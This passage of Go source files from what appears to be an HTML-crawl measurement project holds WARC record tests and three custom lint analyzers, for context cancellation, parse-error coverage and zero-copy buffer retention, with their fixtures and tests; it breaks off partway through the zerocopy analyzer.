		t.Fatalf("Get = %q", got)
	}
	if h.Len() != 1 {
		t.Fatalf("Len = %d", h.Len())
	}
}

func TestMalformedRecords(t *testing.T) {
	cases := []string{
		"NOT-WARC/1.0\r\n\r\n",
		"WARC/1.0\r\nContent-Length: -5\r\n\r\n",
		"WARC/1.0\r\nContent-Length: xyz\r\n\r\n",
		"WARC/1.0\r\nbroken header line\r\n\r\n",
		"WARC/1.0\r\nContent-Length: 100\r\n\r\nshort",
	}
	for _, in := range cases {
		if _, err := NewReader(strings.NewReader(in)).Next(); err == nil {
			t.Errorf("no error for %q", in)
		}
	}
}

func TestReadRecordAtBounds(t *testing.T) {
	data := []byte("WARC/1.0\r\nContent-Length: 0\r\n\r\n\r\n\r\n")
	if _, err := ReadRecordAt(data, -1, 10); err == nil {
		t.Error("negative offset accepted")
	}
	if _, err := ReadRecordAt(data, 0, int64(len(data))+1); err == nil {
		t.Error("overlong range accepted")
	}
	if _, err := ReadRecordAt(data, 0, 0); err == nil {
		t.Error("zero length accepted")
	}
}

func TestDeterministicRecordIDs(t *testing.T) {
	a := NewResponse("https://x.example/", testDate, []byte("b"))
	b := NewResponse("https://x.example/", testDate, []byte("b"))
	c := NewResponse("https://y.example/", testDate, []byte("b"))
	if a.Headers.Get(HeaderRecordID) != b.Headers.Get(HeaderRecordID) {
		t.Fatal("identical inputs produced different record IDs")
	}
	if a.Headers.Get(HeaderRecordID) == c.Headers.Get(HeaderRecordID) {
		t.Fatal("different URIs produced identical record IDs")
	}
}

func TestHTTPResponseParse(t *testing.T) {
	block := BuildHTTPResponse(404, "text/html", []byte("<h1>404</h1>"))
	resp, err := ParseHTTPResponse(block)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 404 || resp.Status != "Not Found" {
		t.Fatalf("status = %d %q", resp.StatusCode, resp.Status)
	}
	if got := resp.Headers.Get("Content-Type"); got != "text/html" {
		t.Fatalf("content-type = %q", got)
	}
	if string(resp.Body) != "<h1>404</h1>" {
		t.Fatalf("body = %q", resp.Body)
	}

	for _, bad := range []string{"", "garbage", "HTTP/1.1 abc OK\r\n\r\n"} {
		if _, err := ParseHTTPResponse([]byte(bad)); err == nil {
			t.Errorf("no error for %q", bad)
		}
	}
}

// TestPropertyHTTPBlockRoundTrip: any body survives the HTTP block
// round trip byte-exactly.
func TestPropertyHTTPBlockRoundTrip(t *testing.T) {
	f := func(body []byte, status uint8) bool {
		code := 200
		if status%2 == 0 {
			code = 404
		}
		resp, err := ParseHTTPResponse(BuildHTTPResponse(code, "text/html", body))
		if err != nil {
			return false
		}
		return resp.StatusCode == code && bytes.Equal(resp.Body, body)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// TestPropertyWarcRoundTrip: any block survives the WARC round trip, both
// compressed and plain, sequential and random access.
func TestPropertyWarcRoundTrip(t *testing.T) {
	f := func(block []byte, compressed bool) bool {
		var buf bytes.Buffer
		var w *Writer
		if compressed {
			w = NewWriter(&buf)
		} else {
			w = NewPlainWriter(&buf)
		}
		rec := NewResponse("https://e.example/", testDate, block)
		off, length, err := w.Write(rec)
		if err != nil {
			return false
		}
		got, err := ReadRecordAt(buf.Bytes(), off, length)
		if err != nil {
			return false
		}
		return bytes.Equal(got.Block, block)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestRequestRecordPairing(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	resp := NewResponse("https://example.org/p", testDate,
		BuildHTTPResponse(200, "text/html", []byte("<p>x</p>")))
	req := NewRequest("https://example.org/p", testDate,
		BuildHTTPRequest("https://example.org/p"), resp.Headers.Get(HeaderRecordID))
	if _, _, err := w.Write(req); err != nil {
		t.Fatal(err)
	}
	off, length, err := w.Write(resp)
	if err != nil {
		t.Fatal(err)
	}
	// Sequential readers see both records, in order, correctly linked.
	recs, err := NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || recs[0].Type() != TypeRequest || recs[1].Type() != TypeResponse {
		t.Fatalf("recs = %v", recs)
	}
	if got := recs[0].Headers.Get(HeaderConcurrentTo); got != recs[1].Headers.Get(HeaderRecordID) {
		t.Fatalf("pairing broken: %q", got)
	}
	if !strings.HasPrefix(string(recs[0].Block), "GET /p HTTP/1.1\r\nHost: example.org\r\n") {
		t.Fatalf("request block = %q", recs[0].Block)
	}
	// CDX-style random access still lands exactly on the response.
	rec, err := ReadRecordAt(buf.Bytes(), off, length)
	if err != nil {
		t.Fatal(err)
	}
	if rec.Type() != TypeResponse {
		t.Fatalf("random access got %s", rec.Type())
	}
}
