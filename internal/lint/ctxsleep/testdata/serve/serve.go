// Package serve mimics the HTTP serving layer: handlers are library
// code (the package is not main), so waits must ride the request
// context — a naked sleep in a handler holds a worker slot hostage,
// and a detached context outlives the client that asked for the work.
package serve

import (
	"context"
	"net/http"
	"time"
)

func handler(w http.ResponseWriter, r *http.Request) {
	time.Sleep(50 * time.Millisecond) // want `bare time.Sleep ignores cancellation`
	_ = r.Context()
}

func backgroundFetch() {
	ctx := context.Background() // want `context.Background\(\) in library code detaches work`
	_ = ctx
}

func boundedRetry(ctx context.Context, attempt func(context.Context) error) error {
	// Correct shape: the wait is bounded by the caller's ctx via a
	// timer select, no naked sleep involved.
	t := time.NewTimer(100 * time.Millisecond)
	defer t.Stop()
	select {
	case <-t.C:
		return attempt(ctx)
	case <-ctx.Done():
		return ctx.Err()
	}
}
