// Package pipeline is a library package: every wait must be
// cancellable and every context must flow in from the caller.
package pipeline

import (
	"context"
	"time"
)

func waits(ctx context.Context) {
	time.Sleep(10 * time.Millisecond) // want `bare time.Sleep ignores cancellation`
	_ = ctx
}

func detaches() context.Context {
	return context.Background() // want `context.Background\(\) in library code detaches work`
}

func stubbed() context.Context {
	return context.TODO() // want `context.TODO\(\) in library code detaches work`
}

func suppressed() {
	//lint:ignore ctxsleep one-off warm-up outside any request path
	time.Sleep(time.Millisecond)
}

func pureArithmetic(d time.Duration) time.Duration {
	return d.Truncate(time.Second)
}
