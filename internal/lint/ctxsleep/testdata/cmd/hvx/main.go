// Command hvx shows the main-package exemption: a binary owns the
// root context, so Background and Sleep are its to use.
package main

import (
	"context"
	"time"
)

func main() {
	ctx := context.Background()
	_ = ctx
	time.Sleep(time.Millisecond)
}
