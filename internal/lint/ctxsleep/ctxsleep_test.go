package ctxsleep_test

import (
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/ctxsleep"
)

func TestCtxSleep(t *testing.T) {
	analysis.RunTest(t, "testdata", ctxsleep.Analyzer)
}
