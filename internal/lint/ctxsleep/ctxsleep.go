// Package ctxsleep forbids uncancellable waiting in pipeline packages.
//
// Invariant (DESIGN.md "Failure model"): every delay in library code
// must be bounded by the caller's context, so Ctrl-C and error-budget
// teardown interrupt a multi-day crawl within one in-flight page. A
// bare time.Sleep ignores cancellation, and context.Background() (or
// context.TODO()) detaches a call tree from it entirely. Library code
// must accept a ctx parameter and sleep via resilience.Sleep. Main
// packages are exempt — they own the root context — and test files are
// never loaded.
package ctxsleep

import (
	"go/ast"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

// Analyzer flags bare time.Sleep and context.Background/TODO in
// non-main packages.
var Analyzer = &analysis.Analyzer{
	Name: "ctxsleep",
	Doc: "forbid bare time.Sleep and context.Background()/TODO() in non-main, " +
		"non-test packages: delays must be cancellable (resilience.Sleep) and " +
		"contexts must flow in from the caller",
	Run: run,
}

func run(pass *analysis.Pass) error {
	if pass.Pkg.Name == "main" {
		return nil
	}
	for _, f := range pass.Pkg.Syntax {
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			switch {
			case pass.CalleeIn(call, "time", "Sleep"):
				pass.Reportf(call.Pos(),
					"bare time.Sleep ignores cancellation; use resilience.Sleep(ctx, d) or accept a ctx parameter")
			case pass.CalleeIn(call, "context", "Background"):
				pass.Reportf(call.Pos(),
					"context.Background() in library code detaches work from caller cancellation; accept a ctx parameter instead")
			case pass.CalleeIn(call, "context", "TODO"):
				pass.Reportf(call.Pos(),
					"context.TODO() in library code detaches work from caller cancellation; accept a ctx parameter instead")
			}
			return true
		})
	}
	return nil
}
