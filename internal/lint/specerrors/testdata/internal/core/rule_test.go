package core

import "example.com/internal/htmlparse"

// A reference from a test file counts: the spec-coverage ledger lives
// in a _test.go file in the real repository.
var _ = htmlparse.ErrUsedByTest
