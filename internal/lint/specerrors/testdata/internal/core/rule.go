// Package core consumes two of the three codes: one in a rule, one in
// a test.
package core

import "example.com/internal/htmlparse"

func match(code htmlparse.ErrorCode) bool {
	return code == htmlparse.ErrUsedByRule
}
