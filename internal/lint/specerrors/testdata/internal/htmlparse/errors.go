// Package htmlparse declares the parse-error vocabulary the analyzer
// tracks.
package htmlparse

// ErrorCode names one WHATWG parse error.
type ErrorCode string

const (
	ErrUsedByRule ErrorCode = "used-by-rule"
	ErrUsedByTest ErrorCode = "used-by-test"
	ErrOrphan     ErrorCode = "orphan" // want `internal/htmlparse.ErrOrphan is emitted by the parser but never referenced`
)

// NotTracked has a different type, so the analyzer ignores it.
const NotTracked = "not-tracked"
