package specerrors_test

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/specerrors"
)

func TestSpecErrors(t *testing.T) {
	analysis.RunTest(t, "testdata", specerrors.Analyzer)
}

// TestSpecErrorsFlagsNewCode is the regression the analyzer exists
// for: adding an ErrorCode constant without wiring it into a core rule
// or test must produce a new finding. It copies the golden module,
// appends a fresh constant, and checks the diagnostic appears.
func TestSpecErrorsFlagsNewCode(t *testing.T) {
	dir := t.TempDir()
	copyTree(t, "testdata", dir)

	errFile := filepath.Join(dir, "internal", "htmlparse", "errors.go")
	f, err := os.OpenFile(errFile, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString("\nconst ErrBrandNew ErrorCode = \"brand-new\"\n"); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	diags := analysis.RunTestDiagnostics(t, dir, specerrors.Analyzer)
	var sawOrphan, sawBrandNew bool
	for _, d := range diags {
		switch {
		case strings.Contains(d.Message, "ErrOrphan"):
			sawOrphan = true
		case strings.Contains(d.Message, "ErrBrandNew"):
			sawBrandNew = true
		default:
			t.Errorf("unexpected diagnostic: %s", d)
		}
	}
	if !sawOrphan {
		t.Error("baseline ErrOrphan finding disappeared after the copy")
	}
	if !sawBrandNew {
		t.Error("adding an unreferenced ErrorCode did not produce a finding")
	}
}

// copyTree duplicates the golden module so the test can mutate it.
func copyTree(t *testing.T, src, dst string) {
	t.Helper()
	err := filepath.WalkDir(src, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, err := filepath.Rel(src, path)
		if err != nil {
			return err
		}
		target := filepath.Join(dst, rel)
		if d.IsDir() {
			return os.MkdirAll(target, 0o755)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		return os.WriteFile(target, data, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
}
