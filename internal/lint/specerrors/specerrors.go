// Package specerrors guards the paper's Table 1 coverage: every
// WHATWG-named parse error the parser can emit must be consumed
// somewhere in the measurement layer.
//
// Invariant: each htmlparse.ErrorCode constant must be referenced by
// at least one internal/core rule or test. A code that is parsed but
// never surfaced is exactly the silent gap that would invalidate the
// violation tables — the parser dutifully records the error, and no
// rule, statistic, or test ever looks at it. New codes must be wired
// into a rule or explicitly accounted for in core's spec-coverage
// test before this analyzer passes.
package specerrors

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

const (
	// declSuffix is the package defining the ErrorCode constants.
	declSuffix = "internal/htmlparse"
	// declType is the named type whose constants are tracked.
	declType = "ErrorCode"
	// useSuffix is the package whose rules and tests must consume them.
	useSuffix = "internal/core"
)

// state accumulates across packages: the declared constants and every
// identifier the consuming package mentions (tests included).
type state struct {
	consts map[string]token.Position
	order  []string
	refs   map[string]bool
}

// Analyzer reports ErrorCode constants never referenced from
// internal/core sources or tests.
var Analyzer = &analysis.Analyzer{
	Name: "specerrors",
	Doc: "every htmlparse.ErrorCode constant must be referenced by at least " +
		"one internal/core rule or test; an unreferenced code is a parse error " +
		"the study observes but never reports (a Table 1 coverage gap)",
	NewRun: func() any {
		return &state{consts: make(map[string]token.Position), refs: make(map[string]bool)}
	},
	Run:    run,
	Finish: finish,
}

func run(pass *analysis.Pass) error {
	st := pass.State.(*state)
	if analysis.HasPathSuffix(pass.Pkg.ImportPath, declSuffix) {
		collectConsts(pass, st)
	}
	if analysis.HasPathSuffix(pass.Pkg.ImportPath, useSuffix) {
		for _, f := range append(append([]*ast.File(nil), pass.Pkg.Syntax...), pass.Pkg.TestSyntax...) {
			ast.Inspect(f, func(n ast.Node) bool {
				if id, ok := n.(*ast.Ident); ok {
					st.refs[id.Name] = true
				}
				return true
			})
		}
	}
	return nil
}

// collectConsts records every package-level constant of type ErrorCode.
func collectConsts(pass *analysis.Pass, st *state) {
	for _, f := range pass.Pkg.Syntax {
		for _, decl := range f.Decls {
			gd, ok := decl.(*ast.GenDecl)
			if !ok || gd.Tok != token.CONST {
				continue
			}
			for _, spec := range gd.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				for _, name := range vs.Names {
					c, ok := pass.Pkg.Info.Defs[name].(*types.Const)
					if !ok {
						continue
					}
					named, ok := c.Type().(*types.Named)
					if !ok || named.Obj().Name() != declType {
						continue
					}
					if _, dup := st.consts[name.Name]; !dup {
						st.consts[name.Name] = pass.Fset.Position(name.Pos())
						st.order = append(st.order, name.Name)
					}
				}
			}
		}
	}
}

func finish(s any, report func(pos token.Position, format string, args ...any)) {
	st := s.(*state)
	names := append([]string(nil), st.order...)
	sort.Slice(names, func(i, j int) bool {
		a, b := st.consts[names[i]], st.consts[names[j]]
		if a.Filename != b.Filename {
			return a.Filename < b.Filename
		}
		return a.Line < b.Line
	})
	for _, name := range names {
		if st.refs[name] {
			continue
		}
		report(st.consts[name],
			"%s.%s is emitted by the parser but never referenced by any %s rule or test; the violation tables would silently under-report it",
			declSuffix, name, useSuffix)
	}
}
