package zerocopy_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/zerocopy"
)

// TestSeededRetentionBug proves the analyzer guards the real parser:
// it copies internal/htmlparse (plus its one internal dependency) into
// a scratch module, injects a view-retention bug — a token name built
// from the zero-copy input view stored into a package-level variable —
// and asserts zerocopy reports it. If the injection anchor drifts out
// of tokenizer.go the test fails loudly rather than passing vacuously.
func TestSeededRetentionBug(t *testing.T) {
	root, err := filepath.Abs(filepath.Join("..", "..", ".."))
	if err != nil {
		t.Fatal(err)
	}

	tmp := t.TempDir()
	copyFile(t, filepath.Join(root, "go.mod"), filepath.Join(tmp, "go.mod"))
	copyGoPackage(t, filepath.Join(root, "internal", "htmlparse"), filepath.Join(tmp, "internal", "htmlparse"))
	copyGoPackage(t, filepath.Join(root, "internal", "obs"), filepath.Join(tmp, "internal", "obs"))

	// Seed the bug. The anchor is the zero-copy fast path of
	// commitTagName; replacing it with a store through a local keeps
	// the view taint live (reading a string field back off the token
	// would not, by the view contract).
	tok := filepath.Join(tmp, "internal", "htmlparse", "tokenizer.go")
	src, err := os.ReadFile(tok)
	if err != nil {
		t.Fatal(err)
	}
	const anchor = "z.cur.Data = zcString(z.input[start:end])"
	const seeded = "name := zcString(z.input[start:end])\n\t\tlastSeenTagName = name\n\t\tz.cur.Data = name"
	if !strings.Contains(string(src), anchor) {
		t.Fatalf("injection anchor %q not found in tokenizer.go; update the seed test to match the parser", anchor)
	}
	out := strings.Replace(string(src), anchor, seeded, 1)
	out += "\nvar lastSeenTagName string\n"
	if err := os.WriteFile(tok, []byte(out), 0o644); err != nil {
		t.Fatal(err)
	}

	pkgs, err := analysis.Load(tmp, "./...")
	if err != nil {
		t.Fatalf("loading seeded copy of htmlparse: %v", err)
	}
	diags, err := analysis.Run(pkgs, []*analysis.Analyzer{zerocopy.Analyzer})
	if err != nil {
		t.Fatal(err)
	}

	found := false
	for _, d := range diags {
		if d.Analyzer == "zerocopy" && strings.Contains(d.Message, "stored in package-level lastSeenTagName") {
			found = true
			continue
		}
		t.Errorf("unexpected diagnostic on seeded htmlparse: %s", d)
	}
	if !found {
		t.Fatalf("zerocopy missed the seeded retention bug; got %d diagnostics", len(diags))
	}
}

// copyGoPackage copies the non-test .go files of a single package
// directory (no recursion: the analyzers only need the sources that
// type-check into the package under test).
func copyGoPackage(t *testing.T, from, to string) {
	t.Helper()
	if err := os.MkdirAll(to, 0o755); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(from)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			continue
		}
		copyFile(t, filepath.Join(from, name), filepath.Join(to, name))
	}
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o644); err != nil {
		t.Fatal(err)
	}
}
