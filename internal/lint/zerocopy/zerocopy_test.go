package zerocopy_test

import (
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/zerocopy"
)

func TestZerocopy(t *testing.T) {
	analysis.RunTest(t, "testdata", zerocopy.Analyzer)
}
