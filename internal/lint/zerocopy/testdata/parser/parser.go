// Package parser is a miniature of the repo's zero-copy tokenizer: a
// per-parse input buffer, scratch recycled with buf[:0] between parses,
// and //hv:view helpers that hand out aliasing views.
package parser

import (
	"strings"
	"unsafe"
)

// Scanner mimics the Tokenizer. input is per-parse and GC-managed;
// scratch is reused across parses, so views of it die at the next
// reset.
type Scanner struct {
	input []byte
	//hv:view recycled between parses by reset
	scratch []byte
	name    string
}

// asString re-views b's bytes as a string without copying.
//
//hv:view result aliases the argument's backing array
func asString(b []byte) string {
	return unsafe.String(unsafe.SliceData(b), len(b))
}

var retained string

var names = make(chan string, 4)

func storeGlobal(s *Scanner) {
	n := asString(s.input)
	retained = n // want `zero-copy view \(result of //hv:view asString\) stored in package-level retained`
}

func storeGlobalUnsafe(b []byte) {
	retained = unsafe.String(unsafe.SliceData(b), len(b)) // want `zero-copy view \(unsafe.String view\) stored in package-level retained`
}

func send(s *Scanner) {
	n := asString(s.input)
	names <- n // want `zero-copy view \(result of //hv:view asString\) sent on a channel without a copy`
}

// leakName hands out a view but does not declare the contract.
func leakName(b []byte) string {
	return asString(b) // want `leakName returns a zero-copy view \(result of //hv:view asString\) but is not marked //hv:view`
}

// leakScratch is worse: the view is of recycled memory.
func (s *Scanner) leakScratch() string {
	return asString(s.scratch) // want `returning a view of recycled scratch \(result of //hv:view asString\) from leakScratch`
}

// Sidecar is heap memory outside the scratch owner.
type Sidecar struct {
	data []byte
}

func stash(s *Scanner, out *Sidecar) {
	out.data = s.scratch // want `view of recycled scratch \(recycled buffer scratch\) stored into field data`
}

var keeper []byte

func keep(b []byte) { keeper = b }

func escapeArg(s *Scanner) {
	keep(s.scratch) // want `view of recycled scratch \(recycled buffer scratch\) passed to keep, which retains parameter 0`
}

// reset recycles: the owner shuffling its own scratch is the mechanism
// the contract protects, not a violation of it.
func (s *Scanner) reset() {
	*s = Scanner{scratch: s.scratch[:0]}
}

// copies shows the sanctioned escapes: explicit copies.
func copies(s *Scanner) {
	retained = string(s.scratch)
	names <- strings.Clone(asString(s.input))
}

// deliberate shows that a justified suppression holds.
func deliberate(s *Scanner) {
	//lint:ignore zerocopy fixture demonstrating a justified suppression
	retained = asString(s.input)
}

// Stream mirrors TokenStream: its own scratch field, refilled from the
// scanner's, handed out only through a //hv:view method.
type Stream struct {
	sc *Scanner
	//hv:view drained and re-filled by Bytes
	errScratch []byte
}

// Bytes returns the scanner's pending bytes.
//
//hv:view contents are valid only until the next call
func (st *Stream) Bytes() []byte {
	st.errScratch = append(st.errScratch[:0], st.sc.scratch...)
	return st.errScratch
}
