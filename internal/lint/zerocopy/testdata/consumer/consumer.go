// Package consumer exercises the cross-package side of the contract:
// //hv:view directives and escape summaries recorded while parser was
// analyzed must still bind when its importer is.
package consumer

import "example.com/parser"

var last []byte

func drain(st *parser.Stream) {
	b := st.Bytes()
	last = b // want `zero-copy view \(result of //hv:view Bytes\) stored in package-level last`
}

func ok(st *parser.Stream) string {
	return string(st.Bytes())
}
