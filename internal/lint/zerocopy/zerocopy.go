// Package zerocopy enforces the parser's zero-copy view contract
// (DESIGN.md §15): a value that aliases a parser-owned buffer — an
// unsafe.String/unsafe.Slice re-view, the result of a //hv:view
// function, or a subslice of a //hv:view scratch field — must not
// outlive the buffer it points into.
//
// The analyzer distinguishes two severities of view. A *plain* view
// aliases the per-parse input buffer: GC-managed and never recycled, so
// retaining one is memory-safe but pins the whole document — storing it
// in a package-level variable or sending it on a channel is flagged,
// and a function returning one must be marked //hv:view so callers
// inherit the contract. A *scratch* view aliases a recycled buffer
// (one reset with buf[:0] between parses): in addition to the above,
// it must not be stored through pointers into heap-reachable memory or
// passed to a call that retains it.
//
// The one sanctioned way to move scratch around is inside its owner:
// the struct that declares a //hv:view field may shuffle that memory
// between its own fields (that is what recycling is), and stores into
// another //hv:view field are recycling by definition. Everything else
// needs an explicit copy — string(b), []byte append into an owned
// buffer, or strings.Clone.
package zerocopy

import (
	"go/ast"
	"go/types"
	"strings"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

var Analyzer = &analysis.Analyzer{
	Name: "zerocopy",
	Doc: "Views of parser buffers (unsafe.String/unsafe.Slice results, //hv:view " +
		"functions and scratch fields) must not escape: no package-level stores, no " +
		"channel sends, no returns from unmarked functions, and recycled scratch " +
		"must not reach heap memory outside its owner. Copy before retaining.",
	Run: run,
}

func run(pass *analysis.Pass) error {
	for _, f := range pass.Pkg.Syntax {
		for _, decl := range f.Decls {
			if fd, ok := decl.(*ast.FuncDecl); ok && fd.Body != nil {
				checkFunc(pass, fd)
			}
		}
	}
	return nil
}

// source is one view origin inside the analyzed function. Bits above 62
// are shared by overflow sources; with bit sharing a plain source may
// inherit a scratch report, never the reverse dropped — conservative in
// the right direction.
type source struct {
	bit      int
	desc     string
	scratch  bool
	call     *ast.CallExpr // view-producing call; nil for field sources
	ownerKey string        // "pkgpath.Type" for //hv:view field sources
}

func checkFunc(pass *analysis.Pass, fd *ast.FuncDecl) {
	srcs, byNode := collectSources(pass, fd)
	if len(srcs) == 0 {
		return
	}
	cfg := &analysis.Flow{
		Info: pass.Pkg.Info,
		SeedExpr: func(e ast.Expr) analysis.Mask {
			if s, ok := byNode[e]; ok {
				return analysis.Mask(1) << s.bit
			}
			return 0
		},
		Summaries: func(fn *types.Func) *analysis.FuncSummary { return pass.Prog.SummaryOf(fn) },
	}
	var sinks []analysis.Sink
	res := analysis.RunFlow(cfg, fd, nil, func(s analysis.Sink) { sinks = append(sinks, s) })
	resolveClasses(pass, res, srcs)

	selfView := false
	if obj := pass.ObjectOf(fd.Name); obj != nil {
		selfView = pass.Prog.HasDirective(analysis.ObjKey(obj), "view")
	}
	for _, s := range sinks {
		reportSink(pass, fd, s, srcs, selfView)
	}
}

// collectSources finds every view origin in fd: unsafe.String/Slice
// calls, calls to //hv:view functions, and selections of //hv:view
// fields. Field sources are scratch from the start; call sources start
// plain and are upgraded by resolveClasses when scratch flows into
// their operands (a view of a view of scratch is still scratch).
func collectSources(pass *analysis.Pass, fd *ast.FuncDecl) ([]*source, map[ast.Node]*source) {
	var srcs []*source
	byNode := make(map[ast.Node]*source)
	add := func(n ast.Node, s *source) {
		s.bit = len(srcs)
		if s.bit > 62 {
			s.bit = 62 // overflow: shared bit, conservatively merged
		}
		srcs = append(srcs, s)
		byNode[n] = s
	}
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.CallExpr:
			// unsafe.String/Slice are builtins, invisible to CalleeOf.
			if sel, ok := ast.Unparen(n.Fun).(*ast.SelectorExpr); ok {
				if b, ok := pass.Pkg.Info.ObjectOf(sel.Sel).(*types.Builtin); ok {
					if b.Name() == "String" || b.Name() == "Slice" {
						add(n, &source{desc: "unsafe." + b.Name() + " view", call: n})
					}
					return true
				}
			}
			fn := analysis.CalleeOf(pass.Pkg.Info, n)
			if fn == nil {
				return true
			}
			if pass.Prog.IsViewFunc(fn) {
				s := &source{desc: "result of //hv:view " + fn.Name(), call: n}
				// A view method taking no data arguments views its
				// receiver's internals — recycled scratch by contract.
				if sig, ok := fn.Type().(*types.Signature); ok &&
					sig.Recv() != nil && len(n.Args) == 0 {
					s.scratch = true
				}
				add(n, s)
			}
		case *ast.SelectorExpr:
			if fk := pass.FieldKeyOf(n); fk != "" && pass.Prog.HasDirective(fk, "view") {
				owner := fk
				if i := strings.LastIndex(fk, "."); i >= 0 {
					owner = fk[:i]
				}
				add(n, &source{
					desc:     "recycled buffer " + n.Sel.Name,
					scratch:  true,
					ownerKey: owner,
				})
			}
		}
		return true
	})
	return srcs, byNode
}

// resolveClasses upgrades call sources to scratch when, under the final
// flow, scratch taint reaches any of their operands. Iterates because a
// chain of view calls propagates class one link per pass; classes only
// move plain→scratch, so it terminates.
func resolveClasses(pass *analysis.Pass, res *analysis.FlowResult, srcs []*source) {
	for iter := 0; iter <= len(srcs); iter++ {
		changed := false
		for _, s := range srcs {
			if s.scratch || s.call == nil {
				continue
			}
			var am analysis.Mask
			for _, a := range s.call.Args {
				am |= res.MaskOf(a)
			}
			if sel, ok := ast.Unparen(s.call.Fun).(*ast.SelectorExpr); ok {
				if sl, found := pass.Pkg.Info.Selections[sel]; found && sl.Kind() == types.MethodVal {
					am |= res.MaskOf(sel.X)
				}
			}
			am &^= analysis.Mask(1) << s.bit
			if scratchMask(am, srcs) != 0 {
				s.scratch = true
				changed = true
			}
		}
		if !changed {
			return
		}
	}
}

// scratchMask returns the subset of m whose bits belong to scratch
// sources.
func scratchMask(m analysis.Mask, srcs []*source) analysis.Mask {
	var out analysis.Mask
	for _, s := range srcs {
		if s.scratch && m&(analysis.Mask(1)<<s.bit) != 0 {
			out |= analysis.Mask(1) << s.bit
		}
	}
	return out
}

// worstSource picks the source to name in a report: a scratch one when
// any is present, otherwise the first matching.
func worstSource(m analysis.Mask, srcs []*source) *source {
	var first *source
	for _, s := range srcs {
		if m&(analysis.Mask(1)<<s.bit) == 0 {
			continue
		}
		if s.scratch {
			return s
		}
		if first == nil {
			first = s
		}
	}
	return first
}

func reportSink(pass *analysis.Pass, fd *ast.FuncDecl, s analysis.Sink, srcs []*source, selfView bool) {
	src := worstSource(s.Mask, srcs)
	if src == nil {
		return
	}
	scratch := scratchMask(s.Mask, srcs)
	switch s.Kind {
	case analysis.SinkGlobal:
		name := "variable"
		if s.Target != nil {
			name = s.Target.Name()
		}
		pass.Reportf(s.Pos, "zero-copy view (%s) stored in package-level %s: copy it (string conversion or strings.Clone) before retaining — the view aliases a parser-owned buffer", src.desc, name)
	case analysis.SinkChanSend:
		pass.Reportf(s.Pos, "zero-copy view (%s) sent on a channel without a copy: the receiver may outlive the buffer's recycle point", src.desc)
	case analysis.SinkReturn:
		if selfView {
			return
		}
		if scratch != 0 {
			pass.Reportf(s.Pos, "returning a view of recycled scratch (%s) from %s: the buffer is reclaimed on reuse — copy it, or mark %s //hv:view to push the contract to callers", src.desc, fd.Name.Name, fd.Name.Name)
			return
		}
		pass.Reportf(s.Pos, "%s returns a zero-copy view (%s) but is not marked //hv:view: annotate it so callers inherit the no-retention contract", fd.Name.Name, src.desc)
	case analysis.SinkFieldStore:
		if scratch == 0 {
			return // plain views may sit in local heap structures; only retention boundaries matter
		}
		if s.FieldSel != nil {
			if fk := pass.FieldKeyOf(s.FieldSel); fk != "" && pass.Prog.HasDirective(fk, "view") {
				return // store into another scratch field: recycling, the contract's purpose
			}
		}
		if ownerInternal(pass, s, scratch, srcs) {
			return
		}
		target := "heap-reachable memory"
		if s.Target != nil {
			target = "field " + s.Target.Name()
		}
		src = worstSource(scratch, srcs)
		pass.Reportf(s.Pos, "view of recycled scratch (%s) stored into %s: the backing array is reclaimed on reuse — copy before storing", src.desc, target)
	case analysis.SinkArgEscape:
		if scratch == 0 {
			return
		}
		src = worstSource(scratch, srcs)
		callee := "the callee"
		if s.Callee != nil {
			callee = s.Callee.Name()
		}
		pass.Reportf(s.Pos, "view of recycled scratch (%s) passed to %s, which retains parameter %d: copy before the call", src.desc, callee, s.ArgIndex)
	}
}

// ownerInternal reports whether every scratch bit of the store belongs
// to a //hv:view field of the very type being written through: the
// owner moving its own scratch between its fields (including the
// wholesale *z = T{...} reset) is the recycle mechanism itself.
func ownerInternal(pass *analysis.Pass, s analysis.Sink, scratch analysis.Mask, srcs []*source) bool {
	if s.LHS == nil {
		return false
	}
	t := pass.TypeOf(analysis.RootExpr(s.LHS))
	for t != nil {
		ptr, ok := t.Underlying().(*types.Pointer)
		if !ok {
			break
		}
		t = ptr.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok || named.Obj().Pkg() == nil {
		return false
	}
	ownerKey := named.Obj().Pkg().Path() + "." + named.Obj().Name()
	for _, src := range srcs {
		if scratch&(analysis.Mask(1)<<src.bit) == 0 {
			continue
		}
		if src.ownerKey != ownerKey {
